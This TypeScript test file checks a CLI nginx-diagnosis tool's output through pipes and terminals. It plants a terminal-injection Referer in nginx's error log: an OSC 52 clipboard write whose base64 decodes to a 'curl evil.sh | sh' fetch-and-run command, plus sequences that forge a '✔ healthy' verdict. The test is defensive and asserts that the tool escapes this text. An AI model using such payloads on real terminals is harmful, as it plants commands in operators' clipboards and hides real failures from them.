// End to end: what the built `upstream-doctor` binary prints, as an operator's shell gets it. Through a real
// pipe every byte arrives (a pipe holds 64 KiB; the process used to exit before it drained) with the right
// exit code, a reader that stops early (`| head`) ends the process quietly, and host text that a client
// planted in nginx's error log (a Referer with OSC 52, ESC[2J and a cursor-up that forges "✔ healthy")
// reaches neither a pipe nor a terminal raw, while --json keeps it exact. One lab for the whole file: 30
// hosts whose reports are big (60 dead upstreams each), and one whose error log carries the attack.
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXIT_FORCED_NOTE, EXIT_OUTPUT_CLOSED } from '../../src/cli/exit.js';
import type { Report } from '../../src/model/types.js';
import { Lab, type LabHost } from '../../lab/index.js';
import { portMismatch } from '../../lab/scenarios/index.js';

const BIN = new URL('../../bin/upstream-doctor.js', import.meta.url).pathname;
const BIG_HOSTS = 30;
const DEAD_UPSTREAMS = 60;
const ESC = '\u001b';
/** What a client sends as its Referer: clipboard write, clear screen, then up a line, erase it, forge a verdict. */
const REFERER = `${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007${ESC}[2J${ESC}[1A${ESC}[2K${ESC}[1G✔ healthy`;
/** The same as visibleText shows it. */
const REFERER_SHOWN = '\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b[2J\\x1b[1A\\x1b[2K\\x1b[1G✔ healthy';
/** Any control byte but newline (and tab), DEL, C1 or a bidi/format character. */
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\p{Cf}\u2028\u2029]/u;

let lab: Lab;
let dir: string;
let evil: LabHost;

interface Shell {
  /** Exit status of each command of the pipeline, as bash's PIPESTATUS has them. */
  statuses: number[];
  stderr: string;
}

/**
 * Runs `script` in bash (the binary is $UD, the inventory $INV, files in $D) and reports PIPESTATUS; stdout
 * goes where the script sends it (a file: what we compare).
 */
function shell(script: string, env: NodeJS.ProcessEnv = {}): Promise<Shell> {
  return new Promise((resolve, reject) => {
    const child = spawn('bash', ['-c', `${script}; echo "statuses: \${PIPESTATUS[*]}" >&3`], {
      cwd: dir,
      env: {
        ...process.env,
        NO_COLOR: '1',
        UD: `${process.execPath} ${BIN}`,
        INV: lab.inventoryPath,
        D: dir,
        ...env,
      },
      stdio: ['ignore', 'ignore', 'pipe', 'pipe'],
    });
    let stderr = '';
    let fd3 = '';
    child.stderr!.on('data', (c: Buffer) => (stderr += c.toString('utf8')));
    child.stdio[3]!.on('data', (c: Buffer) => (fd3 += c.toString('utf8')));
    const timer = setTimeout(() => child.kill('SIGKILL'), 170_000);
    child.on('error', reject);
    child.on('close', () => {
      clearTimeout(timer);
      const m = /statuses: ([\d ]+)/.exec(fd3);
      if (!m) return reject(new Error(`no PIPESTATUS; stderr: ${stderr}`));
      resolve({ statuses: m[1]!.trim().split(' ').map(Number), stderr });
    });
  });
}

const sha256 = (file: string): string =>
  createHash('sha256')
    .update(readFileSync(join(dir, file)))
    .digest('hex');
const text = (file: string): string => readFileSync(join(dir, file), 'utf8');
const size = (file: string): number => statSync(join(dir, file)).size;

/** The two fields that differ between two runs of the same diagnosis, made equal. */
function untimed(output: string): string {
  return output
    .replace(/"startedAt": "[^"]*"/g, '"startedAt": "T"')
    .replace(/"durationMs": \d+/g, '"durationMs": 0')
    .replace(/, \d+ ms\)/g, ', 0 ms)');
}

/**
 * One request, byte for byte as given (node's HTTP client would refuse these header values). The socket
 * stays open for writing until nginx answers: a half-closed client is one that gave up (499, no answer).
 */
function rawRequest(address: string, request: string): Promise<string> {
  return new Promise((resolve) => {
    const socket = connect(80, address, () => socket.write(Buffer.from(request, 'utf8')));
    let answer = '';
    socket.on('data', (d: Buffer) => (answer += d.toString('latin1')));
    socket.on('close', () => resolve(answer.split('\r\n')[0] ?? ''));
    socket.on('error', (e) => resolve(`error: ${e.message}`));
  });
}

/** A site whose every location proxies to its own upstream that nothing listens on: one finding each. */
function deadUpstreams(): string {
  const lines: string[] = [];
  for (let i = 0; i < DEAD_UPSTREAMS; i++) lines.push(`upstream u${i} { server 127.0.0.1:${8100 + i}; }`);
  lines.push('server {', '    listen 80 default_server;');
  for (let i = 0; i < DEAD_UPSTREAMS; i++) lines.push(`    location /u${i}/ { proxy_pass http://u${i}; }`);
  lines.push('}', '');
  return lines.join('\n');
}

/** An nginx config of about `bytes` bytes (many servers): crossplane's JSON of it is three times that. */
function bigConfig(bytes: number): string {
  const parts = ['events {}', 'http {'];
  let length = 0;
  for (let i = 0; length < bytes; i++) {
    const server = `  server { listen ${8000 + (i % 1000)}; server_name s${i}.example.com; location / { proxy_pass http://127.0.0.1:${3000 + (i % 1000)}; } }`;
    parts.push(server);
    length += server.length + 1;
  }
  parts.push('}', '');
  return parts.join('\n');
}

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'ud-output-'));
  writeFileSync(join(dir, 'big.conf'), bigConfig(4 * 1024 * 1024));
  lab = await Lab.create({ prefix: 'udo' });
  const site = deadUpstreams();
  await Promise.all(
    Array.from({ length: BIG_HOSTS }, (_, i) =>
      lab.addHost(`big-${String(i).padStart(2, '0')}`, { nginx: { files: { 'conf.d/big.conf': site } } }),
    ),
  );
  evil = (await portMismatch.stage(lab, { name: 'evil' })).targetHost!;
  // nginx logs the Referer of a request that fails upstream as the client sent it.
  const status = await rawRequest(
    evil.address,
    `GET /a HTTP/1.1\r\nHost: evil\r\nReferer: ${REFERER}\r\nConnection: close\r\n\r\n`,
  );
  expect(status).toBe('HTTP/1.1 502 Bad Gateway');
  const log = await evil.readFile('/var/log/nginx/error.log');
  expect(log).toContain(`referrer: "${REFERER}"`);
}, 240_000);

afterAll(async () => {
  await lab?.teardown();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

describe('every byte through a pipe', () => {
  it('nginx-json of a 4 MB config: `| cat` gets what `> file` gets, exit 0', async () => {
    expect(size('big.conf')).toBeGreaterThan(4_000_000);
    const file = await shell('$UD nginx-json big.conf > file.json');
    const pipe = await shell('$UD nginx-json big.conf | cat > pipe.json');
    expect(file.statuses).toEqual([0]);
    expect(pipe.statuses).toEqual([0, 0]);
    expect(size('file.json')).toBeGreaterThan(10_000_000);
    expect(sha256('pipe.json')).toBe(sha256('file.json'));
    expect(JSON.parse(text('pipe.json'))).toMatchObject({ status: 'ok' });
    expect(pipe.stderr + file.stderr).toBe('');
  });

  it('nginx-json from stdin through pipes on both sides, with the exit code of a parse error', async () => {
    writeFileSync(join(dir, 'broken.conf'), `${text('big.conf')}http {\n`);
    const pipe = await shell('cat broken.conf | $UD nginx-json - | cat > broken.json');
    expect(pipe.statuses).toEqual([0, 1, 0]);
    const payload = JSON.parse(text('broken.json')) as { status: string; errors: unknown[] };
    expect(payload.status).toBe('failed');
    expect(payload.errors.length).toBeGreaterThan(0);
  });

  it(`diagnose --json of ${BIG_HOSTS} hosts: \`| cat\` gets what \`> file\` gets, the same exit code`, async () => {
    const file = await shell("$UD diagnose --inventory $INV --json 'big-*' > file.json");
    const pipe = await shell("$UD diagnose --inventory $INV --json 'big-*' | cat > pipe.json");
    expect(file.statuses).toEqual([1]);
    expect(pipe.statuses).toEqual([1, 0]);
    expect(size('pipe.json')).toBeGreaterThan(1_000_000);
    const reports = JSON.parse(text('pipe.json')) as Report[];
    expect(reports).toHaveLength(BIG_HOSTS);
    for (const r of reports) expect(r.findings).toHaveLength(DEAD_UPSTREAMS);
    expect(untimed(text('pipe.json'))).toBe(untimed(text('file.json')));
    expect(pipe.stderr + file.stderr).not.toContain(EXIT_FORCED_NOTE);
  }, 180_000);

  it('a text report over 64 KiB: `| cat` gets what `> file` gets', async () => {
    const file = await shell("$UD diagnose --inventory $INV 'big-0*' > file.txt");
    const pipe = await shell("$UD diagnose --inventory $INV 'big-0*' | cat > pipe.txt");
    expect(file.statuses).toEqual([1]);
    expect(pipe.statuses).toEqual([1, 0]);
    expect(size('pipe.txt')).toBeGreaterThan(4 * 65_536);
    expect(text('pipe.txt').endsWith('systemctl --failed\n')).toBe(true);
    expect(untimed(text('pipe.txt'))).toBe(untimed(text('file.txt')));
    expect(text('pipe.txt')).not.toContain(ESC); // no colour into a pipe
  }, 180_000);

  it('a reader that stops early (`| head`) ends the process quietly with 141', async () => {
    const json = await shell('$UD nginx-json big.conf | head -c 100 > head.json');
    expect(json.statuses).toEqual([EXIT_OUTPUT_CLOSED, 0]);
    expect(json.stderr).toBe('');
    expect(text('head.json')).toHaveLength(100);
    const report = await shell("$UD diagnose --inventory $INV 'big-0*' | head -1 > head.txt");
    expect(report.statuses).toEqual([EXIT_OUTPUT_CLOSED, 0]);
    expect(report.stderr).toBe('');
    expect(text('head.txt')).toMatch(/^big-0\d \(10\.[\d.]+, \d+ ms\): 60 causes of 502\n$/);
  }, 180_000);
});

describe('a long-running command whose reader goes away', () => {
  it('`worker | head -1`: the worker stops as on SIGTERM and exits 141, nothing on stderr', async () => {
    writeFileSync(join(dir, 'hosts.yml'), 'hosts:\n  web-01: { address: 10.0.0.11 }\n');
    // head takes the first log line and leaves; the worker's next line meets EPIPE.
    const run = await shell('$UD worker --inventory hosts.yml | head -1 > worker.log', {
      WORKER_METRICS_PORT: '0',
      QUEUE_PREFIX: `ud-output-${process.pid}`,
      AUDIT_LOG: join(dir, 'audit.jsonl'),
      LOG_LEVEL: 'info',
    });
    expect(run.statuses).toEqual([EXIT_OUTPUT_CLOSED, 0]);
    expect(run.stderr).toBe('');
    expect(JSON.parse(text('worker.log'))).toMatchObject({ level: 30 });
  }, 60_000);
});

describe('host text a client planted in the error log', () => {
  it('reaches a pipe escaped: no raw control byte, the attack visible as text', async () => {
    const run = await shell('$UD diagnose --inventory $INV evil | cat > evil.txt');
    expect(run.statuses).toEqual([1, 0]);
    const out = text('evil.txt');
    expect(out).not.toMatch(RAW);
    expect(out).toContain(`referrer: "${REFERER_SHOWN}"`);
  });

  it('stays exact in --json (and even there no raw control byte)', async () => {
    const run = await shell('$UD diagnose --inventory $INV --json evil | cat > evil.json');
    expect(run.statuses).toEqual([1, 0]);
    expect(text('evil.json')).not.toMatch(RAW);
    const report = JSON.parse(text('evil.json')) as Report;
    const lines = report.findings.flatMap((f) => f.evidence.map((e) => e.text));
    expect(lines.some((l) => l.endsWith(`referrer: "${REFERER}"`))).toBe(true);
  });

  it('reaches a terminal escaped, with our own colours only there', async () => {
    // script(1) runs the binary on a pseudo-terminal: stdout and stderr are a TTY, as in an operator's shell.
    const run = await shell('script -qec "$UD diagnose --inventory $INV evil" /dev/null > tty.txt', {
      NO_COLOR: '',
    });
    expect(run.statuses).toEqual([1]);
    const screen = text('tty.txt');
    expect(screen).toMatch(/\u001b\[31m✖ critical\u001b\[0m/); // colour on a TTY
    // What is left once our own sequences are taken out: the progress line's erase, SGR colours, and the
    // terminal's CR before each newline.
    const ours = screen
      .replace(/\r\u001b\[K/g, '')
      .replace(/\u001b\[\d+m/g, '')
      .replace(/\r\n/g, '\n');
    expect(ours).not.toMatch(RAW);
    expect(ours).toContain(`referrer: "${REFERER_SHOWN}"`);
  });
});
